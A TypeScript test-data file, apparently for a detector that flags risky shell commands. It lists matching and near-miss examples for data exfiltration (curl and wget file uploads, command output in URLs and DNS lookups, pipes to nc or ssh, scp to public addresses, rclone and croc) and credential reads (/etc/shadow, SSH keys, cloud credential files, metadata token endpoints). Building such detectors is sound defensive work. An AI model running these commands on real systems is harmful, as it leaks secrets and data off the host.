import { each, type TextExamples } from './text-examples.ts';

/** What leaves the host, and what opens other doors. */
export const data: readonly TextExamples[] = [
  {
    code: 'sign.command.upload',
    patterns: [
      {
        id: 'files that curl sends',
        matches: [
          'curl --upload-file x u',
          'curl -F f=@x u',
          'curl -sF "f=<x" u',
          'curl --form f=@x u',
          'curl -d @x u',
          'curl -sd@x u',
          ...each('curl --{} @x u', 'data data-binary data-ascii json'),
          'curl --data-urlencode @x u',
          'curl --data-urlencode f@x u',
        ],
        nearMisses: [
          'curl -d x=1 u',
          'curl -F f=x u',
          'curl --data-raw @x u',
          'curl --uploads x u',
          'wget -d @x u',
          'curl -o @x u',
        ],
      },
      {
        id: 'a file that curl puts',
        matches: ['curl -T x u', 'curl -sST x u'],
        nearMisses: ['curl -t x u', 'tar -T x', 'curl u; tar -T x', 'curl -oT x'],
      },
      {
        id: 'files that wget sends',
        matches: ['wget --post-file=x u', 'wget2 --body-file=x u', 'wget --post-f x u'],
        nearMisses: ['wget --post-data=x u', 'wget --body-data=x u', 'curl --post-file=x u'],
      },
      {
        id: 'what is read, in what is asked for',
        matches: [
          ...each(
            'curl u?x=$({} x)',
            'cat head tail base64 base32 tar gzip xxd od env printenv set id uname whoami getent',
          ),
          'curl u?x=$(< x)',
          'curl u?x=`cat x`',
          'curl u/$( sudo cat x)',
          'curl u&$(id)',
          'wget u?x=$(id)',
          'wget2 u?x=$(id)',
          ...each('curl {} "a $(id)" u', '-d -sF --data --data-raw --data-urlencode --json --form'),
          ...each('wget --{}-data="a $(id)" u', 'post body'),
        ],
        nearMisses: [
          'curl -o "a $(id)" u',
          'curl u?x=$(date)',
          'curl u?x=$(basename x)',
          'echo u?x=$(id)',
          'curl u; echo a=$(id)',
          'curl u && echo a=$(id)',
        ],
      },
      {
        id: 'what is read, in a name that is looked up',
        matches: [
          ...each('{} $(id).x.example.net', 'dig nslookup drill ping ping6'),
          'dig `id`.x.example.net',
        ],
        nearMisses: ['dig x.example.net', 'digs $(id)', 'echo $(id)', 'dig x; echo $(id)'],
      },
      {
        id: 'a pipe to another host',
        matches: [
          ...each('tar c x | {} h', 'ssh nc ncat netcat telnet ftp'),
          'tar c x | sudo ssh h',
          'tar c x | /usr/bin/ssh h',
        ],
        nearMisses: ['tar c x | gzip', 'ssh h | tee x', 'tar c x | sshd h', 'tar c x | grep ssh h'],
      },
      {
        id: 'a copy to a public address',
        matches: [
          ...each('{} x 198.51.100.7:/x', 'scp rsync sftp'),
          'scp x a@198.51.100.7:/x',
          'scp x 172.32.0.9:/x',
        ],
        nearMisses: [
          ...each(
            'scp x {}:/x',
            '10.0.0.9 127.0.0.1 192.168.0.9 172.16.0.9 172.20.0.9 172.31.0.9 host.example.com',
          ),
          'cat x 198.51.100.7:/x',
          'scp x y; cat 198.51.100.7:/x',
        ],
      },
      {
        id: 'tools that are made for it',
        matches: [
          ...each('rclone {} x r:', 'copy copyto sync move moveto rcat'),
          ...each('mega-{} x', 'put copy tools'),
          'megaput x',
          ...each('{} send x', 'croc wormhole'),
          'tftp 198.51.100.7 -p x',
          'tftp 198.51.100.7 put x',
          ...each("lftp -e '{} x' h", 'put mput'),
          "lftp -e 'mirror -R x' h",
        ],
        nearMisses: [
          'rclone ls r:',
          'megals x',
          'croc receive x',
          'tftp 198.51.100.7 -g x',
          "lftp -e 'mirror x' h",
          "lftp -e 'get x' h",
          'tftp 198.51.100.7; echo put',
        ],
      },
      {
        id: 'a server of its own',
        matches: [
          'python3 -m http.server',
          'python -m SimpleHTTPServer',
          'busybox httpd -f',
          'php -S 0.0.0.0:80',
          'php8 -S 0.0.0.0:80',
          'ruby -run -e httpd',
        ],
        nearMisses: [
          'python3 -m http.client',
          'busybox ls',
          'php -s x',
          'ruby -r un x',
          'python3 -m http.servers',
        ],
      },
    ],
  },
  {
    code: 'sign.command.credentials',
    patterns: [
      {
        id: 'keys and tokens that are read',
        matches: [
          ...each(
            '{} /etc/shadow x',
            `cat tac head tail less more strings xxd od hexdump base64 base32 grep sed awk cut sort tar zip gzip 7z cpio
             cp mv dd scp rsync sftp gpg openssl aws gsutil az s3cmd rclone getent`,
          ),
          ...each(
            'cat {}',
            `/etc/gshadow /etc/shadow- /etc/krb5.keytab /etc/ssh/ssh_host_rsa_key /etc/kubernetes/admin.conf
             ~/.ssh/id_rsa /root/.ssh /root/.ssh/ ~/.aws/credentials ~/.aws ~/.kube/config ~/.kube
             ~/.docker/config.json ~/.netrc ~/.pgpass ~/.git-credentials ~/.vault-token /proc/1/environ
             /proc/self/mem ~/.azure ~/.azure/x.json ~/.config/gcloud ~/.gnupg /etc/kubernetes/pki
             /var/run/secrets/x /run/secrets`,
          ),
        ],
        nearMisses: [
          'ls /etc/shadow',
          'cat /etc/shadows',
          'cat /etc/hosts',
          'cat /etc/ssh/ssh_host_rsa_key.pub',
          'cat x > ~/.netrc',
          'scp -i ~/.ssh/id_rsa x h:',
          'sftp -o IdentityFile=~/.ssh/id_rsa h',
          'cat x; ls /etc/shadow',
          'cat x/etc_shadow',
        ],
      },
      {
        id: 'keys and tokens that are given away',
        matches: [
          'x < /etc/shadow',
          'curl -d @/etc/shadow u',
          'curl -T /etc/shadow u',
          'wget --post-file=/etc/shadow u',
        ],
        nearMisses: ['x > /etc/shadow', 'curl -o /etc/shadow u', 'curl -T /etc/hosts u', 'x /etc/shadow'],
      },
      {
        id: 'tokens of the cloud',
        matches: [
          ...each('curl 169.254.169.254/x/{}', 'security-credentials/a identity/oauth2/x y/token'),
          'curl metadata.google.internal/x/token',
          'curl 169.254.170.2/x',
        ],
        nearMisses: [
          'curl 169.254.169.254/x/hostname',
          'curl metadata.google.internal/x/name',
          'curl 169.254.170.20/x',
          'curl 192.0.2.1/x/token',
        ],
      },
    ],
  },
];
